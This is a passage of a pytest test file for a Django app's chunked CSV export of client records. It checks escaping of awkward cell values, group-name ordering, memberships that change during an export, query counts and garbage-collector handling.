    make_client(user=alice, name=FORMULA_NAME, billing_street='Dlouhá 5, "dvůr"\nvchod B', billing_city="'=quoted")
    client_invalidate(client=make_client(user=alice, name="Zrušená, a.s."), user=alice)
    clients = Client.objects.order_by("name", "pk")
    columns = export_columns(client_columns())

    with translation.override(language):
        expected = csv_by_columns(ClientRows(clients, columns), delimiter)
        pieces = list(ClientRows(clients, columns, chunk_size=2).joined_chunks())
        written = b"".join(exports.csv_chunks(ClientRows(clients, columns, chunk_size=2), delimiter=delimiter))

    assert written.decode("utf-8-sig") == expected
    assert len(pieces) == 2  # four clients in chunks of two
    assert all(any(isinstance(piece, exports.Segment) for piece in chunk) for chunk in pieces)


def test_a_chunk_holding_a_separator_is_read_again_cell_by_cell(alice, full_client):
    # The services write these control characters as spaces; rows written another way (SQL, older data) may hold them.
    odd = make_client(user=alice, name="Před po")
    Client.objects.filter(pk=odd.pk).update(name="Před\x1fpo", billing_street="Řádek\x1edruhý")
    make_client(user=alice, name="Vedlejší s.r.o.")
    clients = Client.objects.order_by("name", "pk")
    columns = export_columns(client_columns())

    pieces = list(ClientRows(clients, columns).joined_chunks())
    written = b"".join(exports.csv_chunks(ClientRows(clients, columns))).decode("utf-8-sig")

    assert written == csv_by_columns(ClientRows(clients, columns), ",")
    (chunk,) = pieces
    assert not any(isinstance(piece, exports.Segment) for piece in chunk)
    names = [row["Name"] for row in by_header(parse_csv(written.encode("utf-8-sig")))]
    assert sorted(names) == sorted([full_client.name, "Před\x1fpo", "Vedlejší s.r.o."])


def test_group_names_are_written_by_name_whichever_way_the_cells_are_made(alice):
    # Created in this order: their ids sort them otherwise than their names do.
    zeta, alfa, mid = (make_group(user=alice, name=name) for name in ("Zeta", "Alfa", "Mid; Two"))
    both = make_client(user=alice, name="Both s.r.o.", groups=[zeta, alfa, mid])
    one = make_client(user=alice, name="One s.r.o.", groups=[zeta])
    none = make_client(user=alice, name="None s.r.o.")
    clients = Client.objects.order_by("pk")
    columns = [column for column in export_columns(client_columns()) if column.key in ("id", "name", "groups")]

    by_columns = [row for chunk in ClientRows(clients, columns).chunks() for row in chunk]
    joined = b"".join(exports.csv_chunks(ClientRows(clients, columns), delimiter=";")).decode("utf-8-sig")
    (pieces,) = ClientRows(clients, columns).joined_chunks()

    assert [row[2] for row in by_columns] == ["Alfa; Mid; Two; Zeta", "Zeta", ""]
    assert [row["Groups"] for row in by_header(parse_csv(joined.encode("utf-8-sig"), delimiter=";"))] == [
        "Alfa; Mid; Two; Zeta",
        "Zeta",
        "",
    ]
    assert [piece for piece in pieces if isinstance(piece, exports.Segment)]  # the database joined these cells
    assert [row[0] for row in by_columns] == [str(both.pk), str(one.pk), str(none.pk)]


def test_group_names_follow_the_databases_name_order_as_the_client_page_does(alice):
    groups = [make_group(user=alice, name=name) for name in ("beta", "Alfa", "Ça", "alfa 2")]
    client = make_client(user=alice, name="Mixed s.r.o.", groups=groups)
    columns = [column for column in export_columns(client_columns()) if column.key in ("id", "groups")]

    ((row,),) = ClientRows(Client.objects.filter(pk=client.pk), columns).chunks()

    assert row[1] == "; ".join(group.name for group in client.groups.all())  # the model's ordering: name, id


def _register_after(monkeypatch, clients: int) -> None:
    """Make an export read the register's memberships at once after this many clients (0: with its second chunk)."""
    memberships = clients * exports._GroupCells.REGISTER_SHARE
    monkeypatch.setattr(exports._Register, "size", staticmethod(lambda connection: memberships))


def test_groups_made_or_deleted_during_an_export_are_written_as_they_are_when_their_chunk_is_read(
    monkeypatch, alice, admin_user
):
    _register_after(monkeypatch, 10**9)  # a small export of a large register: each chunk's memberships with it
    zeta = make_group(user=alice, name="Zeta")
    first = make_client(user=alice, name="A first", groups=[zeta])
    second = make_client(user=alice, name="B second", groups=[zeta])
    third = make_client(user=alice, name="C third", groups=[zeta])
    columns = [column for column in export_columns(client_columns()) if column.key in ("name", "groups")]
    chunks = ClientRows(Client.objects.order_by("name"), columns, chunk_size=1).chunks()

    assert next(chunks) == [("A first", "Zeta")]
    # Someone else, meanwhile: a group the export has not seen yet, then a group deleted.
    alfa = make_group(user=alice, name="Alfa")
    client_update(client=second, user=alice, version=second.version, values={}, groups=[zeta, alfa])
    assert next(chunks) == [("B second", "Alfa; Zeta")]
    group_delete(group=zeta, user=admin_user)
    assert next(chunks) == [("C third", "")]
    assert list(chunks) == []
    assert {first.pk, third.pk}.isdisjoint(Client.groups.through.objects.values_list("client_id", flat=True))


def test_a_large_export_writes_the_memberships_as_they_were_when_it_read_the_registers(monkeypatch, alice, admin_user):
    _register_after(monkeypatch, 0)
    zeta = make_group(user=alice, name="Zeta")
    make_client(user=alice, name="A first", groups=[zeta])
    second = make_client(user=alice, name="B second", groups=[zeta])
    make_client(user=alice, name="C third", groups=[zeta])
    columns = [column for column in export_columns(client_columns()) if column.key in ("name", "groups")]
    chunks = ClientRows(Client.objects.order_by("name"), columns, chunk_size=1).chunks()

    assert next(chunks) == [("A first", "Zeta")]
    alfa = make_group(user=alice, name="Alfa")
    client_update(client=second, user=alice, version=second.version, values={}, groups=[zeta, alfa])
    assert next(chunks) == [("B second", "Alfa; Zeta")]  # the register is read with this chunk
    group_delete(group=zeta, user=admin_user)
    # As the database's snapshot shows the export's rows: their groups as they were when it began reading them,
    # not a group gone from one row and present in the row before it.
    assert next(chunks) == [("C third", "Zeta")]
    assert list(chunks) == []


def _grouped_clients(alice) -> list[Client]:
    """Clients in every combination of three groups (none, one, two, all), named so that their order mixes them."""
    zeta, alfa, mid = (make_group(user=alice, name=name) for name in ("Zeta", "Alfa", "Mid; Two"))
    combinations = [[], [zeta], [alfa, zeta], [mid], [zeta, alfa, mid], [], [alfa], [mid, zeta], [zeta]]
    return [
        make_client(user=alice, name=f"{'QPONMLKJI'[number]} s.r.o.", groups=groups)
        for number, groups in enumerate(combinations)
    ]


@pytest.mark.parametrize("after", [10**9, 0, 5], ids=["chunk by chunk", "register", "register later"])
def test_the_groups_cells_are_the_same_whichever_way_the_memberships_are_read(monkeypatch, alice, after):
    clients = _grouped_clients(alice)
    columns = [column for column in export_columns(client_columns()) if column.key in ("id", "name", "groups")]
    expected = {str(client.pk): "; ".join(group.name for group in client.groups.all()) for client in clients}
    _register_after(monkeypatch, after)

    clients_by_name = Client.objects.order_by("name")
    rows = [row for chunk in ClientRows(clients_by_name, columns, chunk_size=2).chunks() for row in chunk]
    written = b"".join(exports.csv_chunks(ClientRows(clients_by_name, columns, chunk_size=2)))

    assert {pk: groups for pk, _name, groups in rows} == expected
    assert [name for _pk, name, _groups in rows] == sorted(client.name for client in clients)
    assert {row["Clientela id"]: row["Groups"] for row in by_header(parse_csv(written))} == expected
    assert expected[str(clients[4].pk)] == "Alfa; Mid; Two; Zeta"


def test_a_large_export_reads_the_registers_memberships_once_instead_of_with_each_chunk(monkeypatch, alice):
    def queries(count: int) -> list[str]:
        _register_after(monkeypatch, 4)  # after two chunks of two
        rows = ClientRows(Client.objects.order_by("name"), export_columns(client_columns()), chunk_size=2)
        with CaptureQueriesContext(connection) as captured:
            assert sum(len(chunk) for chunk in rows.chunks()) == count
        # PostgreSQL names each server-side cursor afresh
        return [re.sub(r'"_django_curs_\w+"', "a cursor", query["sql"]) for query in captured.captured_queries]

    group = make_group(user=alice, name="Zeta")
    for number in range(10):
        make_client(user=alice, name=f"Client {number:03}", groups=[group] if number % 2 else [])
    with_10 = queries(10)
    for number in range(10, 40):
        make_client(user=alice, name=f"Client {number:03}", groups=[group] if number % 2 else [])

    assert queries(40) == with_10
    table = Client.groups.through._meta.db_table
    # the clients; two chunks' memberships and the groups' names; the clients' last id and the register's memberships
    assert len(with_10) == 1 + 2 + 1 + 2
    assert sum(f'FROM "{table}" WHERE' in sql for sql in with_10) == 2
    assert sum(f'FROM "{table}" ORDER BY' in sql for sql in with_10) == 1


def test_more_combinations_of_groups_than_the_register_tells_apart_are_read_chunk_by_chunk(monkeypatch, alice):
    clients = _grouped_clients(alice)
    columns = [column for column in export_columns(client_columns()) if column.key in ("id", "groups")]
    _register_after(monkeypatch, 0)
    monkeypatch.setattr(exports._Register, "MOST", 3)  # "none" and two others; the clients have six

    rows = ClientRows(Client.objects.order_by("name"), columns, chunk_size=2)

    assert dict(row for chunk in rows.chunks() for row in chunk) == {
        str(client.pk): "; ".join(group.name for group in client.groups.all()) for client in clients
    }
    assert rows._groups is not None and rows._groups._registered and rows._groups._register is None


def test_a_client_beyond_the_registers_last_id_is_in_no_group():
    register = exports._Register(array("H", [0, 1, 0, 2]), ["", "Alfa", "Alfa; Zeta"])

    assert register.cells([3, 1, 2]) == ["Alfa; Zeta", "Alfa", ""]
    assert register.cells([1, 7, 3]) == ["Alfa", "", "Alfa; Zeta"]


def test_the_garbage_collector_runs_between_chunks_and_is_on_again_after_a_failed_fetch(alice, group):
    _make_clients(alice, group, 5)
    rows = ClientRows(Client.objects.order_by("name"), export_columns(client_columns()), chunk_size=2)

    assert [gc.isenabled() for _chunk in rows.column_chunks()] == [True, True, True]
    with pytest.raises(RuntimeError), exports._collector_paused():
        assert not gc.isenabled()  # paused while a chunk is fetched
        raise RuntimeError("the database went away")
    assert gc.isenabled()


def test_an_export_leaves_a_collector_someone_turned_off_off(alice, group):
    _make_clients(alice, group, 5)
    gc.disable()
    try:
        rows = ClientRows(Client.objects.order_by("name"), export_columns(client_columns()), chunk_size=2)
        assert [gc.isenabled() for _chunk in rows.column_chunks()] == [False, False, False]
        assert not gc.isenabled()
    finally:
        gc.enable()
